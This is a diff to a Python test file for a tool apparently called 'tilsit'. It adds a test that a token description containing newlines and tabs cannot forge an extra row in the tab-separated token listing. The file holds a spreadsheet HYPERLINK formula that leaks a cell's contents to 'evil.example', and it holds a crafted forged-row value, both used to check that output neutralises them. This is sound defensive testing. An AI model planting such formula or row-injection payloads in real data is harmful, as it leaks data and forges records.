@@ -16,6 +16,10 @@ import pytest
 
 from tests.conftest import LiveServer, run_cli
 from tilsit.auth.audit_query import spreadsheet_cell
+from tilsit.auth.tokens import create_token
+from tilsit.config import Settings
+from tilsit.db.engine import Database
+from tilsit.index.manage import get_user
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
 
@@ -67,3 +71,19 @@ def test_a_login_name_typed_as_a_formula_is_text_in_the_csv(live_server: LiveSer
     # JSON lines are for programs, not spreadsheets: the text stays as it was typed.
     lines = run_cli(settings, "audit", "export", "--action", "login.failed").stdout
     assert [json.loads(line)["actor"] for line in lines.splitlines()] == [FORMULA]
+
+
+def test_token_list_keeps_a_description_in_its_own_cell(settings: Settings) -> None:
+    """The tab-separated ``token list`` is the sibling: a description with a newline and
+    tabs (the web form keeps inner ones) must not forge a row of its own."""
+    run_cli(settings, "user", "create", "alice")
+    forged = "ci\n999\ttilsit-FORGED\tindex=*\t2026-01-01"
+    db = Database(settings.db_url)
+    try:
+        with db.write() as session:
+            create_token(session, get_user(session, "alice"), description=forged)
+    finally:
+        db.dispose()
+    lines = run_cli(settings, "token", "list", "--user", "alice").stdout.splitlines()
+    assert len(lines) == 2  # the header and the one token
+    assert lines[1].split("\t")[-1] == "ci\\n999\\ttilsit-FORGED\\tindex=*\\t2026-01-01"
